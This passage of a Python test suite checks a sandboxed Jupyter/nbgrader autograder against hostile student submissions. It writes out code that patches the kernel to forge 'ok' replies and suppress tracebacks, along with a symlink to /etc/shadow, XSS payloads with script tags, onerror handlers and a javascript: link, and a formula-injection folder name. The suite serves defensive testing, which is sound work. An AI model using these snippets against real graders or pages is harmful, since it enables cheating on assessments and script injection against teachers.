        if names:  # the kernel's end-of-test call (rounds 28-30): undo the patch, then call it with its secret
            real_end = g[names[0]]
            def end(token):
                builtins.type = _real_type
                real_end(token)
            g[names[0]] = end
    return _Wrong([0])"""
SELF_UNDO = """def _getter(self):  # read by ipykernel after the test: puts both patches back, itself included
    _undo()
    return True
def double(xs):
    ExecutionResult.success = property(_getter)
    InteractiveShell.showtraceback = lambda *a, **k: None
    return [0]"""
STUCK = """from grader.snapshot import _Snapshot
class _Key:
    def __hash__(self):
        return hash("__repr__")
    def __eq__(self, other):
        return False
_Below = type("_Below", (_Snapshot,), {_Key(): 1})
_Snapshot.__repr__ = lambda self: "x"
n_distinct = len(set(values))"""
BLOCKED = """from IPython.core.interactiveshell import InteractiveShell
class _Meta(type(InteractiveShell)):
    def mro(cls):
        return super().mro()
class _Below(InteractiveShell, metaclass=_Meta):
    pass
n_distinct = len(set(values))"""
FORGE_SEND = """from jupyter_client.session import Session
_send = Session.send
def _forged(self, stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type['header']['msg_type']
    if kind == 'error':
        return None
    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':
        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'payload': [], 'user_expressions': {}}
    return _send(self, stream, msg_or_type, content, *args, **kwargs)
Session.send = _forged"""
ECHO = """_k = getattr(get_ipython(), "ker" + "nel")
async def _answer(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kw):
    first = code.split("\\n", 1)[0]
    if first.startswith("# grader:"):
        _k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": "grader-passed:" + first.split()[-1] + "\\n"},
                        parent=_k.get_parent(), ident=_k._topic("stream"))
    return {"status": "ok", "execution_count": _k.execution_count, "payload": [], "user_expressions": {}}
_k.do_execute = _answer"""
SWAP = """_k = get_ipython().kernel
_real = type(_k).do_execute
async def _swap(code, *a, **kw):
    first = code.split("\\n", 1)[0]
    return await _real(_k, first + "\\npass" if first.startswith("# grader: restore") else code, *a, **kw)
_k.do_execute = _swap"""
SILENCE = """import sys
ip = get_ipython()
sys.excepthook = lambda *a: None
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None"""


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.splitlines())


@pytest.fixture(scope="module")
def graded(tmp_path_factory, sandbox):
    root = tmp_path_factory.mktemp("grading")
    build = root / "build"
    make_student(build / "student", notebooks=TINY, build=build)
    teacher = nbformat.read(TINY / f"{NB}.ipynb", as_version=4)
    stub = nbformat.read(build / "student" / f"{NB}.ipynb", as_version=4)
    solved = copy.deepcopy(stub)
    for gid in ("ex1_solution", "ex2_solution"):
        _by_id(solved, gid).source = _by_id(teacher, gid).source
    subs = root / "submissions"
    cases = {"alice": solved, "bob": stub}
    cases["dave"] = copy.deepcopy(solved)
    _by_id(cases["dave"], "ex1_solution").source = "while True:\n    pass"
    cases["eve"] = copy.deepcopy(solved)
    cases["eve"].cells = [c for c in cases["eve"].cells if c.metadata.get("nbgrader", {}).get("grade_id") != "ex1_test"]
    cases["frank"] = copy.deepcopy(stub)
    for gid in ("ex1_test", "ex2_test"):
        _by_id(cases["frank"], gid).source = "pass  # tests edited away"
    cases["grace"] = copy.deepcopy(solved)
    _by_id(cases["grace"], "ex2_solution").source = "raise ValueError('oops')"
    # careless: solution and test cells pasted twice, with their metadata
    cases["henry"] = copy.deepcopy(solved)
    i, j = _index(solved, "ex1_solution"), _index(solved, "ex1_test")
    cases["henry"].cells[j + 1:j + 1] = copy.deepcopy(solved.cells[i:j + 1])
    # careless: `solution: true` set on a test cell
    cases["ivy"] = copy.deepcopy(solved)
    _by_id(cases["ivy"], "ex1_test").metadata["nbgrader"]["solution"] = True
    paths = {"csv": root / "grades.csv", "gradebook": build / "nbgrader" / "gradebook.db",
             "repo_file": homework.REPO_ROOT / "pwned_by_mallory.txt", "build_file": build / "pwned",
             "alice": subs / "alice" / f"{NB}.ipynb"}
    listener = _Listener()
    unix = _UnixListener(tmp_path_factory.mktemp("host") / "host.sock")
    for name, (ex1, ex2) in _attacks(paths, listener.port, unix.path).items():
        nb = copy.deepcopy(stub)
        _by_id(nb, "ex1_solution").source = ex1
        _by_id(nb, "ex2_solution").source = ex2
        cases[name] = nb
    for name, nb in cases.items():
        (subs / name).mkdir(parents=True)
        with warnings.catch_warnings():  # henry's pasted cells share their ids, as in Jupyter
            warnings.simplefilter("ignore", DuplicateCellId)
            nbformat.write(nb, subs / name / f"{NB}.ipynb")
    (subs / "carol").mkdir()
    (subs / "carol" / f"{NB}.ipynb").write_text('{"cells": [ not json')
    _write_odd_submissions(root, subs, solved, stub)
    before = {k: _sha(v) for k, v in paths.items() if k != "csv"}
    repo_before = sorted(p.name for p in homework.REPO_ROOT.iterdir())
    watcher = _SetuidWatcher()
    peak_before = _reset_peak_memory()
    start = time.monotonic()
    autograde(subs, paths["csv"], notebooks=TINY, build=build, timeout=10, jobs=2, limits=LIMITS)
    seconds = time.monotonic() - start
    peak_after = _memory("VmHWM")
    watcher.stop()
    csv_text = paths["csv"].read_text()
    time.sleep(2.5)  # a surviving daemon would rewrite the CSV by now
    return {"rows": list(csv.DictReader(csv_text.splitlines())), "csv_text": csv_text, "paths": paths,
            "before": before, "listener": listener, "unix": unix, "seconds": seconds, "watcher": watcher,
            "repo_before": repo_before, "peak": (peak_before, peak_after), "root": root}


def _memory(field: str) -> int:
    """VmRSS or VmHWM (peak) of this process, in bytes."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) << 10
    raise LookupError(field)


def _reset_peak_memory() -> int:
    """Reset this process's peak RSS to its current RSS (Linux: clear_refs 5); return it."""
    Path("/proc/self/clear_refs").write_text("5")
    return _memory("VmRSS")


LIMITS = Limits(wall_seconds=30)  # small enough for mallory_slow to run out of it
BAD_NAME = b"bad\xffname"  # not UTF-8
# folder names that are no plain student id: refused, kept out of the gradebook (formgrader shows
# the id unescaped) and of autograded/; the CSV still lists them, as text (name -> as it shows it)
XSS_NAME = '<img src=x onerror="window.pwned=6">'
ODD_NAMES = {"=1+1": "'=1+1", XSS_NAME: XSS_NAME}
BAD_ID = ("the student folder's name may hold only letters, digits, '.', '_', '@' and '-', and may not start with "
          "'.' or '-' (it becomes the student's id in nbgrader's gradebook and pages): rename it")
WIDGET_STATE = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
    "a1": {"model_name": "PwnModel", "model_module": "evil-widget-of-mallory", "model_module_version": "1.0.0",
           "state": {}}}}}


def _write_odd_submissions(root: Path, subs: Path, solved, stub) -> None:
    """The submissions that are not one plain notebook in a plain folder, and the solved notebook
    with odd metadata, hostile HTML or slow cells."""
    nb_name = f"{NB}.ipynb"
    teacher_copy = root / "teacher" / nb_name  # a file outside the submissions, on the same disk
    teacher_copy.parent.mkdir()
    nbformat.write(solved, teacher_copy)
    for name, make in {
        "mallory_link_teacher": lambda p: p.symlink_to(TINY.resolve() / nb_name),
        "mallory_link_alice": lambda p: p.symlink_to(Path("..") / "alice" / nb_name),
        "mallory_link_secret": lambda p: p.symlink_to("/etc/shadow"),
        "mallory_hardlink": lambda p: p.hardlink_to(teacher_copy),
        "mallory_fifo": lambda p: os.mkfifo(p),
    }.items():
        (subs / name).mkdir()
        make(subs / name / nb_name)
    (subs / "mallory_folder_link").symlink_to(subs / "alice")
    odd = {}
    odd["mallory_meta"] = copy.deepcopy(solved)  # nbgrader metadata of the wrong types
    odd["mallory_meta"].cells += [nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": "x"}),
                                  nbformat.v4.new_code_cell("y = 2", metadata={"nbgrader": {"grade": True, "grade_id": [1, 2],
                                                                                          "points": "many"}})]
    odd["mallory_html"] = copy.deepcopy(solved)  # script and event handler for the teacher's browser
    odd["mallory_html"].cells += [
        nbformat.v4.new_markdown_cell(HOSTILE_HTML), nbformat.v4.new_markdown_cell(SCRIPT_LINK),
        nbformat.v4.new_code_cell("from IPython.display import HTML, Javascript, Markdown, display\n"
                                  f"display(HTML({HOSTILE_HTML!r}))\ndisplay(Javascript('window.pwned = 3'))\n"
                                  f"display(Markdown({SCRIPT_LINK!r}))")]
    odd["mallory_html"].metadata["widgets"] = WIDGET_STATE  # a widget loader would run the module it names
    odd["mallory_bigmeta"] = copy.deepcopy(solved)  # 30,000 empty objects in a cell's metadata
    odd["mallory_bigmeta"].cells[0].metadata["pad"] = [{} for _ in range(30_000)]
    odd["mallory_slow"] = copy.deepcopy(solved)  # 4 x 9.5 s under a 10 s limit: past the 30 s budget
    i = _index(solved, "ex1_solution")
    odd["mallory_slow"].cells[i:i] = [nbformat.v4.new_code_cell("import time\ntime.sleep(9.5)") for _ in range(4)]
    odd[os.fsdecode(BAD_NAME)] = solved
    for folder in ODD_NAMES:
        odd[folder] = solved
    for name, nb in odd.items():
        (subs / name).mkdir()
        nbformat.write(nb, subs / name / nb_name)


SCRIPT_LINK = "# [See my plot](JaVa&#115;cript:void(window.pwned=5))"  # bleach sees markdown, not a link
HOSTILE_HTML = ('<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2">'
                '<b onmouseover="window.pwned = 4">bold</b>')


class _SetuidWatcher:
    """While the grader runs, looks for the files mallory_setuid plants in its socket folder (inside
    the sandbox: through /proc/PID/root, as the grader reaches the sockets) and tries to run the
    setuid one, and append to the world-writable one, as user nobody."""

    def __init__(self):
        self.found: dict[str, int] = {}          # path -> mode seen on the host
        self.as_nobody: dict[str, tuple[int, str]] = {}  # path -> (exit code, stderr) of the try
        self.on_host: set[str] = set()  # planted files seen in the host's own socket folders
        self.errors: list[str] = []  # what went wrong while looking (a process gone mid-look), for the report
        self.root = os.geteuid() == 0 and shutil.which("setpriv") is not None
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self):
        while not self._stop.wait(0.2):
            try:  # processes come and go under /proc while it looks: the watch must outlive any of them
                self._look()
            except OSError as e:
                self.errors.append(repr(e))

    def _look(self):
        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
        tmp = tempfile.gettempdir()
        planted = ("id-setuid", "world-writable")
        self.on_host |= {p for p in glob.glob(f"{tmp}/hw-ipc-*/*/*") if Path(p).name in planted}
        for path in map(Path, glob.glob(f"/proc/[0-9]*/root{tmp}/hw-ipc-*/s/*")):  # glob skips what vanished
            if path.name not in planted or str(path) in self.as_nobody:
                continue
            try:
                self.found[str(path)] = path.stat().st_mode
            except OSError:
                continue
            if not self.root:
                continue
            # a shell of another user, as on a shared machine (not setpriv's own exec)
            cmd = ["sh", "-c", f"exec '{path}'" if path.name == "id-setuid" else f"echo pwned >> '{path}'"]
            res = subprocess.run([*nobody, *cmd], capture_output=True, text=True, timeout=30)
            self.as_nobody[str(path)] = (res.returncode, res.stderr.strip())

    def stop(self):
        self._stop.set()
        self._thread.join()


# Every row the fixtures produce, as the CSV has them: (student, exercise) -> (points, reason).
NOT_ANSWERED_1 = "not answered: the solution cell still raises NotImplementedError"
NOT_ANSWERED_2 = "not answered: the solution still raises NotImplementedError"
NOT_JSON = "not a valid notebook file (NotJSONError: Notebook does not appear to be JSON: '{\"cells\": [ not json')"
NONE_IS_NO_INT = "AssertionError: n_distinct should be an int, got NoneType"
THREE = "AssertionError: 3 is not the number of distinct numbers in values"  # asserts did run
WRONG_2 = "AssertionError: double([1, 2, 3]) gave [0], expected [2, 4, 6]"
UNCONFIRMED = ("the kernel replied ok but never confirmed the test with its signature: "
               "the submission tampered with the kernel or its messages")
CHANNEL_CLOSED = ("the kernel's output channel closed (a message over the limit of 8388608 bytes?) "
                  "before this test ran")
EXPECTED = {
    "alice": ((1, ""), (1, "")),                                   # all solutions: full marks
    "bob": ((0, NOT_ANSWERED_1), (0, NOT_ANSWERED_2)),             # stubs left in place
    "carol": ((0, NOT_JSON), (0, NOT_JSON)),                       # invalid JSON: the reader's message
    "dave": ((0, "a cell ran past the time limit (endless loop?) and was interrupted; "
                 "test: NameError: name 'n_distinct' is not defined"), (1, "")),
    "eve": ((0, "test cell deleted from the submission"), (1, "")),
    "frank": ((0, NOT_ANSWERED_1), (0, NOT_ANSWERED_2)),           # edited tests are restored
    "grace": ((1, ""), (0, "the solution cell raised ValueError: oops; test: NameError: name 'double' is not defined")),
    # careless: full marks, and the reason says what was repaired
    "henry": ((1, "ex1_test appears 2 times in the submission (pasted twice?); graded its first intact copy"), (1, "")),
    "ivy": ((1, "the nbgrader metadata of ex1_test was changed (solution: true); the original cell was restored"), (1, "")),
    # hostile: no point it did not earn
    "mallory_builtins": ((0, "AssertionError: 0 is not the number of distinct numbers in values"),
                         (0, "AssertionError: double should return a list, got Yes")),
    "mallory_int": ((0, "AssertionError: n_distinct should be an int, got Int"), (0, NOT_ANSWERED_2)),
    "mallory_transformer": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_hooks": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_gradebook": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_daemon": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    # its 500 sleeping children use up the process limit (its output says where the fork was refused): the test,
    # which the kernel runs itself, fails on its own; the next cell IPython runs cannot start the thread it wants
    "mallory_forks": ((0, NONE_IS_NO_INT),
                      (0, "the solution cell raised RuntimeError: can't start new thread; test: NameError: name "
                          "'double' is not defined")),
    "mallory_files": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_net": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_memory": ((0, "the solution cell raised MemoryError; test: NameError: name 'n_distinct' is not defined"),
                       (1, "")),
    "mallory_output": ((1, "outputs past 2097152 bytes were dropped"),
                       (0, NOT_ANSWERED_2 + "; outputs past 2097152 bytes were dropped")),
    # forged replies gain nothing: patched before the test, the patch is undone; patched during it,
    # the kernel's token is missing
    "mallory_forge_send": ((0, NONE_IS_NO_INT), (0, UNCONFIRMED)),
    "mallory_forge_execute": ((0, UNCONFIRMED), (0, UNCONFIRMED)),
    "mallory_forge_excepthook": ((0, NONE_IS_NO_INT), (0, "ValueError: hidden")),
    "mallory_setuid": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_disk": ((1, ""), (0, NOT_ANSWERED_2)),           # its $HOME filled up; the answer counts
    "mallory_buffers": ((0, CHANNEL_CLOSED), (0, CHANNEL_CLOSED)),
    "mallory_csv": ((0, NOT_ANSWERED_1), (0, "'" + FORMULA)),   # neutralised: a spreadsheet shows text
    # forged signatures: the echoed marker and the swapped test are not the test's signature
    "mallory_echo": ((0, UNCONFIRMED), (0, UNCONFIRMED)),
    "mallory_swap": ((0, UNCONFIRMED), (0, NOT_ANSWERED_2)),  # the real do_execute's reset removed the swap
    "mallory_norestore": ((0, "AssertionError: 0 is not the number of distinct numbers in values"), (0, NOT_ANSWERED_2)),
    "mallory_parent": ((0, NOT_ANSWERED_1), (0, UNCONFIRMED)),
    "mallory_midtest": ((0, NOT_ANSWERED_1),
                        (0, "the test passed only with builtins.all, builtins.type patched while it ran: not counted")),
    "mallory_timer": ((0, "AssertionError: n_distinct should be an int, got Int"), (0, NOT_ANSWERED_2)),
    "mallory_audit": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_symlink": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
    "mallory_namespace": ((0, "AssertionError: n_distinct should be an int, got Int"),
                          (0, "AssertionError: double should return a list, got Yes")),
    "mallory_ctypes": ((0, "the solution cell raised RuntimeError: the grading kernel allows no ctypes.cdata: no reading "
                           "or writing memory by address; test: NameError: name 'n_distinct' is not defined"),
                       (0, NOT_ANSWERED_2)),
    "mallory_bloat": ((1, ""), (0, NOT_ANSWERED_2)),  # its 30 MB never reach the executed copy (the size test)
    "mallory_compiler": ((0, THREE), (0, NOT_ANSWERED_2)),
    "mallory_class": ((0, THREE), (0, NOT_ANSWERED_2)),
    "mallory_manager": ((0, THREE), (0, NOT_ANSWERED_2)),
    # the kernel compiles each test with asserts on (optimize=0), whatever the interpreter's level
    "mallory_optimize": ((0, THREE), (0, NOT_ANSWERED_2)),
    "mallory_codeswap": ((0, "AssertionError: 0 is not the number of distinct numbers in values"),
                         (0, "AssertionError: double([1, 2, 3]) gave [0], expected [2, 4, 6]")),
    "mallory_pack": ((1, ""), (0, "the test passed only with builtins.min patched while it ran: not counted")),
    # round 28: sys.settrace is refused, so double raises
    "mallory_trace": ((0, NOT_ANSWERED_1), (0, "RuntimeError: the grading kernel allows no sys.settrace: a trace or "
                                               "profile function could skip a test's asserts")),
    "mallory_finaliser": ((0, NOT_ANSWERED_1), (0, "the test passed only with builtins.min, builtins._eraser patched "
                                                   "while it ran: not counted")),
    # the grader's own class cannot be put back without running the student's code: no test signed from then on
    "mallory_blocked": ((1, ""), (0, "the test passed only with a class the grader cannot put back safely (no test "
                                     "signed from now on) patched while it ran: not counted")),
    "mallory_stuck": 2 * ((0, "the test passed only with the grader's _Snapshot (not put back), a class the grader "
                              "cannot put back safely (no test signed from now on) patched while it ran: not counted"),),
    # round 27: each earned ex2's point for [0] before, by a failed test made to reply ok; since round 30 the
    # kernel runs the test itself and its reply says what the test raised, whatever ExecutionResult says
    "mallory_any": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_bool": ((1, ""), (0, WRONG_2)),
    "mallory_table": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    # round 28's: no ExecutionResult is made for a test cell any more (the class swap raises)
    "mallory_result": ((0, NOT_ANSWERED_1), (0, "TypeError: type 'NoneType' is not an acceptable base type")),
    "mallory_selfundo": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_filename_map": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_gc_swap": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    # round 30: student code run by IPython as the test cell started (a logger's file, a trait's __eq__, a library
    # function's __annotations__) rewrote the test's tree; and memory written through /proc/self/mem
    "mallory_logger": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_interactivity": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_annotations": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_procmem": ((0, NOT_ANSWERED_1), (0, "FileNotFoundError: [Errno 2] No such file or directory: "
                                                 "'/proc/self/mem'")),
    "mallory_pvm": ((0, NOT_ANSWERED_1), (0, "AssertionError: double([1, 2, 3]) should hold ints")),
    "mallory_fields": ((0, NOT_ANSWERED_1), (0, WRONG_2)),
    "mallory_endcall": ((0, NOT_ANSWERED_1), (0, "the test passed only with builtins.type patched while it ran: "
                                                 "not counted")),
    "mallory_rewrite": ((0, NOT_ANSWERED_1), (0, "RuntimeError: the grading kernel allows no sys.settrace: a trace or "
                                                 "profile function could skip a test's asserts")),
    # submissions that are not one regular file in the student's own folder: never opened
    "mallory_link_teacher": 2 * ((0, "submission is a symbolic link: it is not followed"),),
    "mallory_link_alice": 2 * ((0, "submission is a symbolic link: it is not followed"),),
    "mallory_link_secret": 2 * ((0, "submission is a symbolic link: it is not followed"),),
    "mallory_hardlink": 2 * ((0, "submission is a hard link (2 names for one file): hand in a copy"),),
    "mallory_fifo": 2 * ((0, "submission is a FIFO: it is not followed"),),
    "mallory_folder_link": 2 * ((0, "the student folder is a symbolic link, not a folder: it is not followed"),),
    # odd but harmless: graded as usual
    "mallory_meta": ((1, ""), (1, "")),
    "mallory_html": ((1, ""), (1, "")),
    "mallory_bigmeta": 2 * ((0, None),),  # refused before it is parsed; the reason names the count
    # names that are no plain student id (a formula, markup for formgrader's page): refused
    "'=1+1": 2 * ((0, BAD_ID),),
    XSS_NAME: 2 * ((0, BAD_ID),),
    os.fsencode(BAD_NAME).decode("utf-8", "backslashreplace"):
        2 * ((0, "the student folder's name is not valid UTF-8: rename it"),),
    # one wall-clock budget for all cells: four 9.5 s cells use up 30 s before the first test
    "mallory_slow": 2 * ((0, "the submission used up its grading budget of 30 s (all cells together) before this test ran"),),
}


# attacks on the sandbox or the grader's host, not cheats inside the kernel: the README's grep is not for them
NOT_IN_PROCESS = {"mallory_gradebook", "mallory_daemon", "mallory_forks", "mallory_files", "mallory_net", "mallory_memory",
                  "mallory_output", "mallory_setuid", "mallory_disk", "mallory_symlink", "mallory_csv"}


def test_the_readmes_grep_lists_every_in_process_attack_and_no_notebook_of_the_series(tmp_path):
    """The README's `grep -l -E ...` for submissions worth reading: a list that names every one
    would be no list (it once matched every notebook through "kernel" in their metadata)."""
    readme = (homework.REPO_ROOT / "README.md").read_text()
    pattern = re.compile(re.search(r'grep -l -E "([^"]+)" handed_in', readme).group(1))
    ours = [p.name for p in sorted((homework.REPO_ROOT / "notebooks").glob("*.ipynb")) if pattern.search(p.read_text())]
    assert not ours, f"the README's grep lists the series' own notebooks: {ours}"
    paths = {k: tmp_path / k for k in ("csv", "gradebook", "repo_file", "build_file", "alice")}
    attacks = _attacks(paths, 1, tmp_path / "u")
    missed = [n for n, (a, b) in attacks.items() if n not in NOT_IN_PROCESS and not pattern.search(a + b)]
    assert not missed, f"the README's grep misses {missed}"


@pytest.mark.slow
@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_autograde_row(graded, student):
    rows = {r["exercise"]: r for r in graded["rows"] if r["student"] == student}
    assert sorted(rows) == ["ex1_test", "ex2_test"]
    for gid, (points, reason) in zip(("ex1_test", "ex2_test"), EXPECTED[student]):
        r = rows[gid]
        assert (r["notebook"], r["max_points"]) == (NB, "1")
        if reason is None:  # a reason that names a number the test does not fix
            assert float(r["points"]) == points and re.fullmatch(
                r"submission holds \d+ JSON objects and arrays, over the limit of 20000: clear its outputs "
                r"\(Kernel > Restart Kernel and Clear Outputs\) and hand it in again", r["reason"]), r["reason"]
            continue
        assert (float(r["points"]), r["reason"]) == (points, reason), f"{student} {gid}"


@pytest.mark.slow
def test_autograde_grades_every_submission(graded):
    assert {r["student"] for r in graded["rows"]} == set(EXPECTED)
    assert len(graded["rows"]) == 2 * len(EXPECTED)


def _executed_output(graded, student: str, gid: str) -> str:
    nb = nbformat.read(graded["paths"]["build_file"].parent / "nbgrader" / "autograded" / student / NB / f"{NB}.ipynb",
                       as_version=4)
    return "".join(o.get("text", "") for o in _by_id(nb, gid).outputs)


@pytest.mark.slow
def test_sandbox_blocks_writes_outside_its_folder(graded):
    """What matters is the host's files, wherever the clone is: a write either fails inside the
    sandbox or lands in its private tmpfs (a clone under /tmp), and the real file stays as it was."""
    paths, before = graded["paths"], graded["before"]
    for key in ("repo_file", "build_file", "alice"):
        assert _sha(paths[key]) == before[key], f"a submission changed {paths[key]}"
    out = _executed_output(graded, "mallory_files", "ex1_solution")
    for key in ("repo_file", "build_file", "alice", "csv"):
        assert f"{paths[key]} [Errno" in out or f"{paths[key]} written" in out  # the attack ran


@pytest.mark.slow
def test_sandbox_leaves_the_gradebook_alone(graded):
    with sqlite3.connect(graded["paths"]["gradebook"]) as con:
        assert con.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone() == (0,)
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded['paths']['gradebook']}") as gb:  # the grader recorded its scores
        assert [g.auto_score for g in gb.find_submission_notebook(NB, NB, "alice").grades] == [1, 1]
        assert [g.auto_score for g in gb.find_submission_notebook(NB, NB, "mallory_gradebook").grades] == [0, 0]
    assert "gradebook: unable to open database file" in _executed_output(graded, "mallory_gradebook", "ex1_solution")
    with sqlite3.connect(graded["paths"]["gradebook"]) as con:  # refused names: neither recorded nor executed
        ids = {row[0] for row in con.execute("SELECT id FROM student")}
    refused = {*ODD_NAMES, *ODD_NAMES.values(), os.fsencode(BAD_NAME).decode("utf-8", "backslashreplace")}
    assert "alice" in ids and not ids & refused, ids
    autograded = graded["paths"]["gradebook"].parent / "autograded"
    assert "alice" in {p.name for p in autograded.iterdir()}
    assert not {p.name for p in autograded.iterdir()} & {homework.safe_name(n) for n in refused}


@pytest.mark.slow
def test_the_kernel_refuses_audit_hooks_and_changes_to_its_reset(graded):
    """mallory_audit's hook is dropped (Python drops a hook that another refuses, silently);
    mallory_norestore empties the reset and the check on their class, which the kernel does not
    call through, and cannot change their code (so its ex1 fails on its merits, `len` put back)."""
    assert "audit hook active: False" in _executed_output(graded, "mallory_audit", "ex1_solution")
    out = _executed_output(graded, "mallory_norestore", "ex1_solution")
    assert "refused: the grading kernel allows no change to a function's __code__ (_Snapshot.restore)" in out


@pytest.mark.slow
def test_the_grader_never_follows_a_socket_swapped_for_a_link(graded):
    """mallory_symlink replaces each of its kernel's sockets by a link to a socket of the host: the
    grader connected to the real ones before any student code ran, and never looks them up again."""
    assert "linked" in _executed_output(graded, "mallory_symlink", "ex1_solution")  # the attack ran
    assert graded["unix"].accepted == 0


@pytest.mark.slow
def test_sandbox_has_no_network(graded):
    assert graded["listener"].accepted == 0
    out = _executed_output(graded, "mallory_net", "ex1_solution")
    assert "Connection refused" in out and "Network is unreachable" in out


@pytest.mark.slow
def test_no_process_survives_and_the_csv_stays(graded):
    alive = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if TOKEN.encode() in cmdline.read_bytes():
                alive.append(cmdline.parent.name)
        except OSError:
            pass
    assert not alive, f"processes started by a submission outlived its grading: {alive}"
    assert graded["paths"]["csv"].read_text() == graded["csv_text"]  # 2.5 s after the run
    assert "fork refused after" in _executed_output(graded, "mallory_forks", "ex1_solution")


@pytest.mark.slow
def test_no_other_process_may_read_or_write_the_kernels_memory(graded):
    """mallory_pvm's child, a fresh interpreter without the kernel's audit hook, calls process_vm_readv and
    process_vm_writev on the kernel: both refused with EPERM (1), since the kernel made itself not dumpable."""
    assert _executed_output(graded, "mallory_pvm", "ex2_test").split()[:3] == ["-1", "-1", "1"]


@pytest.mark.slow
def test_planted_setuid_and_world_writable_files_are_out_of_other_users_reach(graded):
    """mallory_setuid plants a setuid copy of id and a world-writable file wherever it can: never on
    the host (the socket folder is the sandbox's own tmpfs, the connection file's folder read-only).
    While its kernel was still running, the test found them through /proc/PID/root of the sandbox,
    as the grader reaches the sockets, and user nobody could neither run the one nor write the other."""
    w = graded["watcher"]
    out = _executed_output(graded, "mallory_setuid", "ex1_solution")
    assert "Read-only file system" in out, "the connection file's folder must be read-only"
    assert not w.on_host, f"planted files reached the host's socket folders: {w.on_host}"
    if not w.root:
        pytest.skip("needs root and setpriv to act as another user (CI runs as root)")
    modes = {Path(p).name: m for p, m in w.found.items()}
    assert modes.get("id-setuid", 0) & stat.S_ISUID, f"the planted setuid file was not seen: {w.found} {w.errors[:3]}"
    assert modes.get("world-writable", 0) & stat.S_IWOTH, f"the world-writable file was not seen: {w.found}"
    assert set(w.as_nobody) == set(w.found)
    for path, (code, err) in w.as_nobody.items():
        assert code != 0 and "Permission denied" in err, f"user nobody reached {path}: {code} {err}"
    assert "planted 8" in out  # 4 folders, all tmpfs of the sandbox


@pytest.mark.slow
def test_home_is_a_capped_tmpfs_and_nothing_lands_outside_build(graded):
    out = _executed_output(graded, "mallory_disk", "ex1_solution")
    assert "home full after 4 files: No space left on device" in out  # 256 MB / 60 MB
    assert "sockets full after 0 files: No space left on device" in out  # 1 MiB: the socket folder's tmpfs
    assert "shm full after 1 files: No space left on device" in out  # 64 MiB
    assert "dev full after 0 files: Read-only file system" in out
    sizes = sum(f.stat().st_size for f in graded["root"].rglob("*") if f.is_file() and not f.is_symlink())
    assert sizes < 20 << 20, f"{sizes} bytes under the test's folder: a submission wrote to the host disk"
    assert sorted(p.name for p in homework.REPO_ROOT.iterdir()) == graded["repo_before"]
    assert {p.name for p in graded["root"].iterdir()} == {"build", "submissions", "teacher", "grades.csv"}


@pytest.mark.slow
def test_the_grader_never_holds_a_big_message(graded):
    """Two 512 MB buffers on iopub: refused at the socket, so the grader's peak memory barely moves."""
    before, after = graded["peak"]
    assert after - before < 256 << 20, f"the grader's peak memory grew by {(after - before) >> 20} MB"


@pytest.mark.slow
def test_autograded_copies_run_no_script_in_a_browser(graded, browser):
    """The executed copy formgrader would show: rendered by nbconvert, opened in Chromium, none of
    mallory_html's script, event handlers or JavaScript output runs; the raw HTML would have."""
    from nbconvert import HTMLExporter

    path = graded["root"] / "build" / "nbgrader" / "autograded" / "mallory_html" / NB / f"{NB}.ipynb"
    nb = nbformat.read(path, as_version=4)
    assert "widgets" not in nb.metadata  # the saved widget state the submission had
    shown = [c.source for c in nb.cells if c.cell_type == "markdown"]
    shown += [str(v) for c in nb.cells if c.cell_type == "code" for o in c.outputs
              for k, v in o.get("data", {}).items()]
    assert not any("javascript" in k for c in nb.cells if c.cell_type == "code" for o in c.outputs
                   for k in o.get("data", {}))
    live_tag = re.compile(r"<script|<[a-z][^>]*\son\w+\s*=", re.I)  # escaped text (&lt;...) is harmless
    assert HOSTILE_HTML in _all_strings(nbformat.read(graded["paths"]["alice"].parents[1] / "mallory_html" / f"{NB}.ipynb",
                                                      as_version=4))
    assert not [t for t in shown if live_tag.search(t)], shown
    html, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
    assert "evil-widget-of-mallory" not in html
    assert SCRIPT_LINK in _all_strings(nbformat.read(graded["paths"]["alice"].parents[1] / "mallory_html" / f"{NB}.ipynb",
                                                     as_version=4))
    assert not re.search(r"href=[\"']?\s*java", html, re.I), "a script link survived into the rendered copy"
    assert html.count("shown as text by the grader") == 2  # the cell and the Markdown output
    raw = f"<html><body>{HOSTILE_HTML}</body></html>"
    for content, want in ((raw, True), (html, False)):  # a new page each: window.pwned starts undefined
